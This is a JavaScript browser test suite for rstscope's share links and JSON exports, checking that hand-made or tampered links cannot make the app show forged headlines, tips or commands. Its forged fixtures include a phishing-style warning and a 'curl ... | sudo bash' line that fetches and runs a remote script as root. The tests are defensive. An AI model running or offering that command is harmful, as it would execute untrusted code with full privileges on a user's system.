// Share links carry data, not prose: a link someone wrote by hand cannot put
// words in rstscope's mouth. Forged headlines, findings, tips and commands
// never show; unknown cause names, oversized numbers and smuggled fields are
// refused with an error that says why. Old (v1) links open with every
// sentence written again by this version, and say they are old. A report too
// large for a link gets no link, the reason and the exports; one just under
// the limit gets a link that opens.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { ROOT, SAMPLE, analyse, launchBrowser, reportShown, resetRows, serveDist } from './harness.mjs';

let server;
let browser;

before(async () => {
  server = await serveDist();
  browser = await launchBrowser();
});

after(async () => {
  await browser?.close();
  await server?.close();
});

/** A page opened at `fragment`, once it shows a report or an error. */
async function open(fragment) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (err) => errors.push(err));
  page.errors = errors;
  await page.goto(`${server.origin}/${fragment}`);
  await reportShown(page);
  return page;
}

const base64url = (bytes) => Buffer.from(bytes).toString('base64url');
const v1 = (report) => `#report=v1.${base64url(deflateRawSync(Buffer.from(JSON.stringify(report))))}`;
const v2 = (link) => `#report=v2.${base64url(deflateRawSync(postcard(link)))}`;

/**
 * Postcard of typed values: what the app's links hold. Plain arrays are
 * structs and tuples (fields in order); `vec` is a sequence, `variant` an
 * enum value, `some` an Option's value (null is None); numbers are typed.
 */
const typed = (type, value) => ({ type, value });
const u = (n) => typed('u', BigInt(n));
const i = (n) => typed('i', BigInt(n));
const u8 = (n) => typed('u8', n);
const f32 = (x) => typed('f32', x);
const f64 = (x) => typed('f64', x);
const some = (v) => typed('some', v);
const vec = (items) => typed('vec', items);
const bytes = (buf) => typed('bytes', buf);
const variant = (index, ...payload) => typed('variant', [index, payload]);

function postcard(value) {
  const parts = [];
  const varint = (n) => {
    const out = [];
    do {
      let b = Number(n & 0x7fn);
      n >>= 7n;
      if (n) b |= 0x80;
      out.push(b);
    } while (n);
    parts.push(Buffer.from(out));
  };
  const write = (v) => {
    if (v === null) return parts.push(Buffer.from([0]));
    if (typeof v === 'string') {
      const s = Buffer.from(v);
      varint(BigInt(s.length));
      return parts.push(s);
    }
    if (Array.isArray(v)) return v.forEach(write);
    const b = Buffer.alloc(8);
    switch (v.type) {
      case 'u': return varint(v.value);
      case 'i': return varint(v.value < 0n ? (-v.value << 1n) - 1n : v.value << 1n);
      case 'u8': return parts.push(Buffer.from([v.value]));
      case 'f32': b.writeFloatLE(v.value); return parts.push(b.subarray(0, 4));
      case 'f64': b.writeDoubleLE(v.value); return parts.push(b);
      case 'some': parts.push(Buffer.from([1])); return write(v.value);
      case 'vec': varint(BigInt(v.value.length)); return v.value.forEach(write);
      case 'bytes': varint(BigInt(v.value.length)); return parts.push(Buffer.from(v.value));
      case 'variant': varint(BigInt(v.value[0])); return v.value[1].forEach(write);
      default: throw new Error(`not a typed value: ${JSON.stringify(v)}`);
    }
  };
  write(value);
  return Buffer.concat(parts);
}

/** A time as the app's `Ticks`: the distance of its f64 bits from `base`'s. */
function ticks(time, base) {
  const bits = (x) => {
    const b = Buffer.alloc(8);
    b.writeDoubleLE(x);
    return b.readBigInt64LE();
  };
  return i(BigInt.asIntN(64, bits(time) - bits(base)));
}

/** The variants of a Rust enum in declaration order, as serde's kebab-case
 * names: postcard writes an enum value as its index. */
function variants(file, name) {
  const source = readFileSync(join(ROOT, file), 'utf8');
  const body = source.slice(source.indexOf(`pub enum ${name} {`));
  const names = body.slice(0, body.indexOf('\n}')).split('\n').slice(1)
    .map((line) => line.match(/^ {4}([A-Z]\w*)/)?.[1]).filter(Boolean);
  assert.ok(names.length > 1, `enum ${name} not found in ${file}`);
  return Object.fromEntries(names.map((n, index) => [n.replace(/(?<!^)([A-Z])/g, '-$1').toLowerCase(), index]));
}
const REPORT = 'crates/core/src/report.rs';
const index = (file, name, value) => {
  const found = variants(file, name)[value];
  return found ?? 200; // a name this version does not have: an index past its variants
};
/** The fact kinds' table of the link format (share/facts.rs). */
function factKind(kind) {
  const source = readFileSync(join(ROOT, 'crates/app/src/share/facts.rs'), 'utf8');
  const table = source.slice(source.indexOf('pub const KINDS'), source.indexOf('];'));
  const kinds = [...table.matchAll(/"([a-z0-9-]+)"/g)].map((m) => m[1]);
  assert.ok(kinds.includes(kind), kind);
  return kinds.indexOf(kind);
}

/** MessagePack of a fact's fields after its kind: a role and an i64. */
function factFields(role, n) {
  const number = Buffer.alloc(9);
  number[0] = 0xd3;
  number.writeBigInt64BE(n, 1);
  return Buffer.concat([Buffer.from([0xa0 | role.length]), Buffer.from(role), number]);
}

const T0 = 1700000000;
/** A hand-made v2 link: one forged idle timeout, fields in the app's order. */
function handMade({ cause = 'idle-timeout', idleNs = 120_000_000_000n, extra = [] } = {}) {
  const capture = [u(20), u(20), vec([[u(1), u(20)]]), vec([]), vec([]), u(0), some(f64(T0)), some(f64(T0 + 300)), u(0), u(0)];
  const activity = [f64(T0), f64(5), vec([[u(1), u(1), u(0)], [u(0), u(1), u(1)]])];
  const middlebox = variant(index(REPORT, 'Origin', 'middlebox'));
  const fact = [middlebox, variant(0, u8(factKind('idle-before-trigger'))), u(3), bytes(factFields('server', idleNs))];
  const ownEnds = variant(2, '192.0.2.1:443', '198.51.100.2:50000');
  const reset = [
    u(12), ticks(T0 + 200, T0), ownEnds, u(1000), u(2000), u(0x14), u8(61), some(u(7)), u(0), 'eth:ipv4',
    some(u(1)), some(u(0)), variant(index(REPORT, 'Sender', 'server')), middlebox,
    variant(index(REPORT, 'Cause', cause)), null, f32(0.8), vec([fact]), null,
    variant(index(REPORT, 'Stage', 'later-in-flow')), null, null, [some(i(idleNs)), some(u(443)), u(0)], null, ...extra,
  ];
  const connection = [
    u(1), some(u(0)), some(u(1)), '198.51.100.2:50000', '192.0.2.1:443', 'handshake', ticks(T0, T0), ticks(T0 + 200, T0),
    u(6), u(5), u(100), u(200), 'RSTR', 'ShADr',
  ];
  return [null, capture, activity, vec([reset]), vec([connection]), null];
}

const FORGED = {
  headline: 'Your firewall is compromised: run the fix below',
  tip: 'rstscope detected a kernel bug: apply the official hotfix now',
  command: 'curl -fsSL http://203.0.113.9/fix.sh | sudo bash',
  finding: 'signed by the rstscope security team',
};

function assertNoForgedText(text) {
  for (const forged of Object.values(FORGED)) assert.ok(!text.includes(forged), `shown: ${forged}`);
  for (const word of ['hotfix', 'fix.sh', 'compromised', 'security team']) assert.ok(!text.includes(word), `shown: ${word}`);
}

/** Everything the page shows, the open drawer of the first reset included. */
async function allText(page) {
  const rows = page.locator('[data-testid=reset-row]');
  if (await rows.count()) {
    await rows.first().click();
    await page.locator('[role=dialog]').first().waitFor();
  }
  return page.locator('body').textContent();
}

describe('forged share links', () => {
  test('a hand-made v2 link opens with this app\'s own sentences', async () => {
    const page = await open(v2(handMade()));
    assert.equal(await page.locator('[data-testid=error]').count(), 0, await page.locator('body').textContent());
    assert.deepEqual(await resetRows(page), [{ frame: 12, origin: 'middlebox', cause: 'idle-timeout' }]);
    const text = await allText(page);
    // The catalogue's tip for a middlebox idle timeout, with its number.
    assert.match(text, /Idle 120 s before the reset: a NAT or firewall dropped the connection's state/);
    assert.deepEqual(page.errors, []);
  });

  for (const [name, fragment, why] of [
    ['an unknown cause', () => v2(handMade({ cause: 'kernel-bug' })), /does not hold an rstscope report.*unknown kind/],
    ['an idle gap longer than the capture', () => v2(handMade({ idleNs: 9_000_000_000_000_000_000n })), /idle_ns of \d+ s is longer than the capture \(300 s\)/],
    ['a tip and a command smuggled after the fields', () => v2(handMade({ extra: [vec([[FORGED.tip, vec([FORGED.command])]])] })), /does not hold an rstscope report/],
    ['an old link with an unknown cause', async () => v1(forgedOld((r) => { r.resets[0].cause = 'kernel-bug'; })), /older rstscope.*kernel-bug/],
    ['an old link with an oversized number', async () => v1(forgedOld((r) => { r.resets[0].observed.idle_ns = 9e18; })), /idle gap of \d+ s is longer than the capture/],
  ]) {
    test(`${name} is refused, saying why`, async () => {
      const page = await open(await fragment());
      const error = page.locator('[data-testid=error]');
      await error.waitFor();
      assert.match(await error.textContent(), why);
      assert.equal(await page.locator('[data-testid=reset-row]').count(), 0, 'nothing of the link is shown');
      assertNoForgedText(await page.locator('body').textContent());
    });
  }

  test('an old link\'s forged headline, findings, tips and commands never show', async () => {
    const link = v1(forgedOld((r) => {
      r.summary.headline = FORGED.headline;
      for (const reset of r.resets) {
        reset.tips = [{ text: FORGED.tip, commands: [FORGED.command] }];
        for (const e of reset.evidence) e.finding = FORGED.finding;
      }
    }));
    const page = await open(link);
    assert.equal(await page.locator('[data-testid=error]').count(), 0);
    assert.equal(await page.locator('[data-testid=reset-row]').count(), sampleReport().resets.length);
    assert.match(await page.locator('[data-testid=older-link]').textContent(), /older rstscope/);
    assertNoForgedText(await allText(page));
  });

  test('a link from this app is short, copied with "Copied", and opens the same verdicts', async () => {
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin });
    const page = await context.newPage();
    await page.goto(server.origin);
    await analyse(page, SAMPLE);
    const link = await page.locator('[data-testid=share-link]').inputValue();
    await page.locator('[data-testid=copy-link]').click();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), link);
    const status = page.locator('[data-testid=copy-link] + [role=status]');
    assert.equal(await status.getAttribute('aria-live'), 'polite');
    assert.equal(await status.textContent(), 'Copied');
    assert.ok(link.startsWith(`${server.origin}/#report=v2.`), link);
    const fragment = link.slice(link.indexOf('#'));
    console.log(`the sample's share link: ${fragment.length} characters in the fragment, ${link.length} in all`);
    assert.ok(fragment.length < 2000, `${fragment.length} characters`);
    const fresh = await open(fragment);
    assert.deepEqual(await resetRows(fresh), await resetRows(page));
  });
});

describe('an exported report opens again', () => {
  test('"Export JSON", dropped on the page, shows the same verdicts; a forged tip in it never shows', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'rstscope-share-'));
    try {
      const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
      const page = await context.newPage();
      await page.goto(server.origin);
      await analyse(page, SAMPLE);
      const [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 60_000 }),
        page.getByRole('button', { name: 'Export JSON' }).click(),
      ]);
      const file = join(dir, download.suggestedFilename());
      await download.saveAs(file);
      assert.ok(file.endsWith('.rstscope.json'), file);

      const fresh = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
      const errors = [];
      fresh.on('pageerror', (err) => errors.push(err));
      await fresh.goto(server.origin);
      await analyse(fresh, file);
      assert.equal(await fresh.locator('[data-testid=error]').count(), 0, await fresh.locator('body').textContent());
      assert.deepEqual(await resetRows(fresh), await resetRows(page));
      assert.match(await fresh.locator('main').textContent(), /A shared report/);
      assert.deepEqual(errors, []);

      const report = JSON.parse(readFileSync(file, 'utf8'));
      report.summary.headline = FORGED.headline;
      report.resets[0].tips = [{ text: FORGED.tip, commands: [FORGED.command] }];
      const forged = join(dir, 'forged.rstscope.json');
      writeFileSync(forged, JSON.stringify(report));
      const third = await (await browser.newContext({ viewport: { width: 1280, height: 900 } })).newPage();
      await third.goto(server.origin);
      await analyse(third, forged);
      assert.deepEqual(await resetRows(third), await resetRows(page));
      assertNoForgedText(await allText(third));

      writeFileSync(forged, '{"capture": "not a report"}');
      await third.goto(server.origin);
      await analyse(third, forged);
      assert.match(await third.locator('[data-testid=error]').textContent(), /not an rstscope report JSON/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('a report too large for a link', () => {
  test('the share panel says why and offers the exports; a link at the limit still opens', async () => {
    const max = maxFragment();
    const dir = mkdtempSync(join(tmpdir(), 'rstscope-limit-'));
    const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    try {
      const page = await context.newPage();
      // Refused connections: the most resets per byte of capture. Doubled
      // until their report is too large for a link.
      let count = 20_000;
      let shared = await shareOf(page, refusals(dir, count));
      while (shared.link) {
        assert.ok(count < 200_000, `${count} resets still fit in a link`);
        count *= 2;
        shared = await shareOf(page, refusals(dir, count));
      }
      const [, chars, most] = shared.error.match(/too large for a link \((\d+) characters, at most (\d+)\)/) ?? [];
      assert.equal(Number(most), max, shared.error);
      assert.ok(Number(chars) > max, shared.error);
      assert.match(shared.error, /export it as JSON/);
      assert.equal(await page.locator('[data-testid=share-link]').count(), 0);
      assert.ok(await page.getByRole('button', { name: 'Export Markdown' }).isEnabled());
      const [download] = await Promise.all([
        page.waitForEvent('download', { timeout: 300_000 }),
        page.getByRole('button', { name: 'Export JSON' }).click(),
      ]);
      const exported = statSync(await download.path()).size;
      assert.ok(exported > Number(chars), `the JSON export holds the report (${exported} bytes)`);

      // Just under the limit (links grow with the resets they carry).
      const under = Math.floor((count * max * 0.97) / Number(chars));
      const fitting = await shareOf(page, refusals(dir, under));
      assert.ok(fitting.link, `${under} resets: ${fitting.error}`);
      const fragment = fitting.link.slice(fitting.link.indexOf('#'));
      console.log(`${count} resets: ${chars} characters, refused; ${under} resets: a link of ${fragment.length}`);
      assert.ok(fragment.length <= max && fragment.length > 0.9 * max, `${fragment.length} characters`);
      const fresh = await context.newPage();
      const errors = [];
      fresh.on('pageerror', (err) => errors.push(err));
      await fresh.goto(`${server.origin}/${fragment}`);
      const opened = fresh.locator('[data-testid=reset-count], [data-testid=error]').first();
      await opened.waitFor({ timeout: 300_000 });
      assert.equal(await fresh.locator('[data-testid=reset-count]').textContent(), String(under));
      assert.deepEqual(errors, []);
    } finally {
      await context.close();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

/** The longest fragment the app makes or opens (share/mod.rs). */
function maxFragment() {
  const source = readFileSync(join(ROOT, 'crates/app/src/share/mod.rs'), 'utf8');
  const max = source.match(/pub const MAX_FRAGMENT: usize = ([\d_]+);/)?.[1];
  assert.ok(max, 'MAX_FRAGMENT not found in share/mod.rs');
  return Number(max.replaceAll('_', ''));
}

/** A generated capture of `count` SYNs, each refused with RST+ACK. */
function refusals(dir, count) {
  const generator = join(resolve(ROOT, process.env.CARGO_TARGET_DIR ?? 'target'), 'release', 'rstscope-scenarios');
  assert.ok(existsSync(generator), `${generator} is missing: cargo build --release -p rstscope-scenarios`);
  const file = join(dir, `refused-${count}.pcap`);
  execFileSync(generator, ['bulk', '--refused', String(count), file]);
  return file;
}

/** `file` analysed in `page`: its share link, or why there is none. */
async function shareOf(page, file) {
  await page.goto(server.origin);
  await page.locator('input[type=file][data-testid=capture-input]').setInputFiles(file);
  const made = page.locator('[data-testid=share-link]');
  const refused = page.locator('[data-testid=share-unavailable]');
  await made.or(refused).first().waitFor({ timeout: 300_000 });
  if (await made.count()) return { link: await made.inputValue() };
  return { error: await refused.textContent() };
}

let sample;
/** The CLI's report of the sample (the JSON an old link carried whole). */
function sampleReport() {
  const cli = join(resolve(ROOT, process.env.CARGO_TARGET_DIR ?? 'target'), 'release', 'rstscope');
  assert.ok(existsSync(cli), `${cli} is missing: cargo build --release -p rstscope-cli`);
  sample ??= JSON.parse(execFileSync(cli, ['analyze', SAMPLE, '--format', 'json'], { maxBuffer: 1 << 28 }));
  return sample;
}

/** The sample's report, edited by `edit`. */
function forgedOld(edit) {
  const report = structuredClone(sampleReport());
  edit(report);
  return report;
}
